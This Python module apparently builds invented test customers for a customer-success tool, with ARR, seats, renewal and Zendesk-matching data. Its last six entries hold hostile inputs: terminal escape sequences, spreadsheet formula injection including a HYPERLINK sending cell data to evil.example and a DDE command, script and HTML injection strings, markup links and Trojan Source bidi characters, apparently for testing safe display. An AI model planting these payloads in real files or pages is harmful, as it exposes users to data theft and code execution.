"""The customers of the made-up software vendor, one entry each: who they are and how they are doing.

``zendesk`` is how their Zendesk organization can be recognised: ``external`` (external id is the Salesforce id),
``short`` (its 15-character form), ``field`` (an organization field holds it), ``domain``, ``name``, or "" (has none).
"""

from typing import Any, NamedTuple


class Customer(NamedTuple):
    """One customer as invented; amounts in whole ``currency``, ``renews_in`` days and ``months`` around the birth."""

    number: int
    key: str
    name: str
    domain: str
    city: str
    parent: str
    industry: str
    segment: str
    arr: int | None
    currency: str
    seats: int
    used: float
    trend: str
    renews_in: int | None
    months: int
    stage: str
    zendesk: str
    tickets: int
    status: str = "Active"
    names: str = "west"
    tags: tuple[str, ...] = ()
    comments: str = ""


# A name that fills the 255 characters Salesforce has for one.
_LONG = ("The Quite Exceptionally Long-Named Consolidated Intercontinental Provisions, Haberdashery, Lamp Oil, "
         "Ship Chandlery, Bookbinding, Umbrella Repair, Second-Hand Telescope and General Mercantile Company of "
         "Upper and Lower Thistledown and Surrounding Parishes")  # fmt: skip

# Key, name, domain, city|state|postal code|country, parent.
_WHO: tuple[tuple[Any, ...], ...] = (
    ("acme", "Acme Corporation", "acme.com", "San Francisco|CA|94105|United States", ""),
    ("acme-gmbh", "Acme GmbH", "acme-gmbh.example", "Berlin||10115|Germany", "acme"),
    ("acme-ulm", "Acme GmbH Werk Ulm", "acme-ulm.example", "Ulm||89073|Germany", "acme-gmbh"),
    ("acme-wien", "Acme GmbH Werk Wien", "acme-wien.example", "Wien||1010|Austria", "acme-gmbh"),
    ("acme-uk", "Acme UK Ltd", "acme-uk.example", "London||EC1A 1BB|United Kingdom", "acme"),
    ("acme-japan", "アクメ株式会社", "acme-japan.example", "東京都港区||105-0011|Japan", "acme"),
    ("acme-holding", "ACME Holding", "acme-holding.example", "Zug||6300|Switzerland", ""),
    ("lacme", "Lacmé Cosmétiques", "lacme.example", "Lyon||69002|France", ""),
    ("globex", "Globex Corporation", "globex.example", "Austin|TX|78701|United States", ""),
    ("globex-energy", "Globex Energy", "globex-energy.example", "Houston|TX|77002|United States", "globex"),
    ("globex-norge", "Globex Energy Norge AS", "globex-norge.example", "Stavanger||4006|Norway", "globex-energy"),
    ("initech", "Initech LLC", "initech.example", "Dallas|TX|75201|United States", ""),
    ("kestrel", "Kestrel Robotics", "kestrel-robotics.example", "Pittsburgh|PA|15222|United States", ""),
    ("northwind", "Northwind Outfitters", "northwind-outfitters.example", "Portland|OR|97204|United States", ""),
    ("halcyon", "Halcyon Health Partners", "halcyon-health.example", "Boston|MA|02110|United States", ""),
    ("halcyon-labs", "Halcyon Diagnostics", "halcyon-dx.example", "Worcester|MA|01608|United States", "halcyon"),
    ("tidewater", "Tidewater Credit Union", "tidewater-cu.example", "Norfolk|VA|23510|United States", ""),
    ("brightpath", "Brightpath Academy", "brightpath.example", "Denver|CO|80202|United States", ""),
    ("copperline", "Copperline Logistics", "copperline.example", "Memphis|TN|38103|United States", ""),
    ("quillon", "Quillon Legal LLP", "quillon.example", "New York|NY|10005|United States", ""),
    ("orchard", "Orchard & Vine Grocers", "orchard-vine.example", "Sacramento|CA|95814|United States", ""),
    ("stormglass", "Stormglass Analytics", "stormglass.example", "Seattle|WA|98101|United States", ""),
    ("vantage", "Vantage Insurance Group", "vantage-insurance.example", "Chicago|IL|60601|United States", ""),
    ("pinecrest", "Pinecrest County Government", "pinecrest-county.example", "Boise|ID|83702|United States", ""),
    ("lumen", "Lumen Stage Lighting", "lumen-stage.example", "Nashville|TN|37203|United States", ""),
    ("mueller", "Müller & Söhne Maschinenbau GmbH", "mueller-soehne.example", "Stuttgart||70173|Germany", ""),
    ("midori", "株式会社みどり精機", "midori-seiki.example", "大阪市北区||530-0001|Japan", ""),
    ("hanbit", "한빛소프트웨어 주식회사", "hanbit-sw.example", "서울||04524|South Korea", ""),
    ("lodzkie", "Łódzkie Zakłady Papiernicze S.A.", "lodzkie-papier.example", "Łódź||90-001|Poland", ""),
    ("cafe-ole", "Café Olé España S.L.", "cafe-ole.example", "Sevilla||41001|Spain", ""),
    ("smorgas", "Smörgåsbord AB", "smorgasbord.example", "Göteborg||411 03|Sweden", ""),
    ("shalom", "שלום מערכות בע״מ", "shalom-systems.example", "תל אביב||6100000|Israel", ""),
    ("noor", "شركة النور للتقنية", "noor-tech.example", "دبي|||United Arab Emirates", ""),
    ("rocket", "🚀 Rocketry Labs 👩\u200d🚀", "rocketry-labs.example", "Cape Canaveral|FL|32920|United States", ""),
    ("dong-a", "Đông Á Logistics", "dong-a.example", "Hải Phòng||180000|Vietnam", ""),
    ("aegean", "Αιγαίο Ναυτιλιακή Α.Ε.", "aegean-shipping.example", "Πειραιάς||185 31|Greece", ""),
    # From here on live the customers whose data attacks whoever shows it.
    ("escape", "\x1b[31mEscape\x1b[0m Artists Inc", "escape-artists.example", "Las Vegas|NV|89101|United States", ""),
    ("formula", '=HYPERLINK("http://evil.example/?c="&A1,"Formula Foods")', "formula-foods.example",
     "@SUM(1+1)*cmd|NY|10001|United States", ""),
    ("script", "<script>alert('c360')</script> & Sons", "markup-sons.example", "Reno|NV|89501|United States", ""),
    ("bold", "[bold red]Bracket[/bold red] [link=http://evil.example]Studios[/link]", "bracket-studios.example",
     "Omaha|NE|68102|United States", ""),
    ("bidi", "Trojan \u202egnp.exe\u202c Source \u2066Ltd\u2069\u200b", "trojan-source.example",
     "Cambridge||CB2 1TN|United Kingdom", ""),
    ("long", _LONG, "thistledown.example", "Thistledown||TD1 1AA|United Kingdom", ""),
)  # fmt: skip

# In the same order: industry, segment, ARR, currency, seats, part of them used, trend, days until renewal, months as a
# customer, stage, how Zendesk knows them, tickets.
_HOW: tuple[tuple[Any, ...], ...] = (
    ("Technology", "Enterprise", 120000, "USD", 1000, .9, "grows", 98, 28, "Adoption", "external", 57),
    ("Technology", "Enterprise", 40000, "EUR", 250, .72, "grows", 210, 20, "Adoption", "short", 21),
    ("Manufacturing", "Mid-Market", 9600, "EUR", 60, .55, "falls", 210, 14, "Onboarding", "domain", 9),
    ("Manufacturing", "Mid-Market", 12000, "EUR", 75, .8, "steady", 176, 11, "Adoption", "name", 6),
    ("Technology", "Mid-Market", 31000, "GBP", 180, .64, "steady", 41, 23, "Adoption", "external", 12),
    ("Technology", "Mid-Market", 4800000, "JPY", 120, .83, "grows", 130, 16, "Adoption", "external", 8),
    ("Finance", "SMB", None, "USD", 0, 0, "steady", None, 2, "", "", 0),
    ("Retail", "SMB", 7400, "EUR", 40, .7, "seasonal", 300, 9, "Adoption", "domain", 7),
    ("Energy", "Enterprise", 310000, "USD", 2400, .78, "steady", 33, 41, "Optimize & Grow", "external", 52),
    ("Energy", "Enterprise", 88000, "USD", 700, .52, "falls", 33, 30, "Adoption", "external", 31),
    ("Energy", "Mid-Market", 26000, "EUR", 150, .88, "grows", 120, 18, "Adoption", "domain", 11),
    ("Technology", "Mid-Market", 54000, "USD", 320, .61, "falls", 12, 36, "Adoption", "external", 34),
    ("Manufacturing", "Enterprise", 142000, "USD", 800, .93, "grows", 220, 22, "Optimize & Grow", "external", 28),
    ("Retail", "Mid-Market", 36500, "USD", 240, .66, "seasonal", 75, 26, "Adoption", "domain", 19),
    ("Healthcare", "Enterprise", 205000, "USD", 1500, .71, "steady", 160, 33, "Adoption", "external", 40),
    ("Healthcare", "Mid-Market", 47000, "USD", 300, .84, "grows", 160, 19, "Adoption", "field", 14),
    ("Finance", "Mid-Market", 61000, "USD", 400, .58, "falls", 55, 29, "Will Churn", "external", 26),
    ("Education", "SMB", 8800, "USD", 90, .77, "seasonal", 190, 13, "Adoption", "domain", 8),
    ("Transportation", "Mid-Market", 29500, "USD", 210, .49, "falls", 24, 17, "Adoption", "external", 17),
    ("Legal", "SMB", 15200, "USD", 80, .95, "steady", 260, 24, "Optimize & Grow", "name", 6),
    ("Retail", "SMB", 9900, "USD", 70, .62, "seasonal", 145, 10, "Onboarding", "domain", 7),
    ("Technology", "SMB", 18400, "USD", 110, .87, "grows", 330, 5, "Onboarding", "external", 9),
    ("Finance", "Enterprise", 176000, "USD", 1200, .69, "steady", 112, 38, "Adoption", "external", 33),
    ("Government", "Mid-Market", 42000, "USD", 350, .54, "steady", 205, 27, "Adoption", "domain", 15),
    ("Media", "SMB", 6100, "USD", 35, .4, "falls", -40, 18, "Churn", "name", 5),
    ("Manufacturing", "Mid-Market", 38500, "EUR", 260, .73, "grows", 140, 21, "Adoption", "name", 16),
    ("Manufacturing", "Enterprise", 83000, "USD", 500, .81, "grows", 165, 15, "Adoption", "external", 18),
    ("Technology", "Mid-Market", 27000, "USD", 160, .9, "grows", 88, 12, "Adoption", "external", 10),
    ("Manufacturing", "SMB", 11300, "EUR", 65, .6, "steady", 70, 19, "Adoption", "domain", 7),
    ("Retail", "SMB", 5200, "EUR", 30, .75, "seasonal", 230, 8, "Onboarding", "name", 4),
    ("Retail", "SMB", 9100, "EUR", 55, .68, "seasonal", 180, 14, "Adoption", "domain", 6),
    ("Technology", "SMB", 21000, "USD", 130, .79, "grows", 93, 16, "Adoption", "external", 9),
    ("Technology", "SMB", 19500, "USD", 115, .67, "steady", 64, 13, "Adoption", "external", 8),
    ("Aerospace", "SMB", 23500, "USD", 95, .98, "grows", 280, 7, "Adoption", "domain", 9),
    ("Transportation", "SMB", 8300, "USD", 60, .57, "steady", 155, 10, "Adoption", "name", 5),
    ("Transportation", "SMB", 14100, "EUR", 85, .71, "seasonal", 200, 15, "Adoption", "external", 6),
    ("Media", "SMB", 4400, "USD", 25, .8, "steady", 100, 12, "Adoption", "domain", 6),
    ("Retail", "SMB", 6700, "USD", 45, .65, "steady", 125, 9, "Adoption", "domain", 6),
    ("Media", "SMB", 5900, "USD", 38, .72, "steady", 85, 11, "Adoption", "domain", 5),
    ("Media", "SMB", 7700, "USD", 48, .69, "steady", 150, 10, "Adoption", "domain", 5),
    ("Technology", "SMB", 6300, "GBP", 42, .74, "steady", 115, 12, "Adoption", "domain", 5),
    ("Retail", "SMB", 3300, "GBP", 20, .5, "falls", 60, 14, "Adoption", "domain", 4),
)  # fmt: skip

_MORE: dict[str, dict[str, Any]] = {
    "acme": {"tags": ("vip", "renewal-q1")},
    "acme-gmbh": {"names": "german", "tags": ("vip",)},
    "acme-ulm": {"names": "german"},
    "acme-wien": {"names": "german"},
    "acme-japan": {"names": "japanese"},
    "acme-holding": {"status": "Prospect", "comments": "Asked for a price list; no contract yet."},
    "lacme": {"names": "accented"},
    "globex": {"tags": ("reference", "renewal-q4"), "comments": "Board wants one platform for all regions by spring."},
    "globex-norge": {"names": "accented"},
    "initech": {"tags": ("at-risk",), "comments": "Renewal at risk: new head of IT prefers the in-house tool."},
    "kestrel": {"tags": ("reference", "expansion")},
    "tidewater": {
        "tags": ("at-risk",),
        "comments": "Merging with a larger credit union; they keep the other platform.",
    },
    "copperline": {"tags": ("at-risk",)},
    "lumen": {"status": "Churn", "comments": "Closed the rental business."},
    "dong-a": {"status": "Inactive", "names": "accented"},
    "mueller": {"names": "german"},
    "midori": {"names": "japanese", "comments": "来期に200席の追加を検討中。"},
    "hanbit": {"names": "korean"},
    "lodzkie": {"names": "accented"},
    "cafe-ole": {"names": "accented"},
    "smorgas": {"names": "accented"},
    "shalom": {"names": "hebrew", "comments": "לקוח מרוצה, מתכנן הרחבה"},
    "noor": {"names": "arabic"},
    "rocket": {"tags": ("🚀", "expansion"), "comments": "Launch window in spring 🛰️ — no calls that week!"},
    "aegean": {"names": "greek"},
    "escape": {
        "comments": "\x1b]0;owned\x07\x1b[2J\x1b[1;1HAll \x9b31mgreen\r here\b\b\b\b",
        "tags": ("\x1b[5mblink",),
    },
    "formula": {"comments": "=cmd|' /C calc'!A0", "tags": ("=1+1", "@risk", "-2", "+3")},
    "script": {"comments": "<img src=x onerror=alert(1)> </textarea><a href='javascript:alert(2)'>plan</a>"},
    "bold": {"comments": "[red]not red[/red] \\[escaped] [/] {braces} %s %(x)s"},
    "bidi": {"comments": "access \u202e\u2066// only for admins\u2069\u2066 begin"},
    "long": {"comments": "A comment without any place to break: " + "long" * 900},
}


def all_customers() -> tuple[Customer, ...]:
    """Return every customer, Acme first; the number is the same in every world."""
    rows = zip(_WHO, _HOW, strict=True)
    return tuple(Customer(number, *who, *how, **_MORE.get(who[0], {})) for number, (who, how) in enumerate(rows, 1))
